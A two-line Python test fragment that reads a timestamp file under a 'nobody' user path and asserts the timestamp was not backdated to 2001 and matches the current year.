    backdated = (sub / "nobody" / A / "timestamp.txt").read_text()
    assert not backdated.startswith("2001") and backdated[:4] == time.strftime("%Y", time.gmtime()), backdated
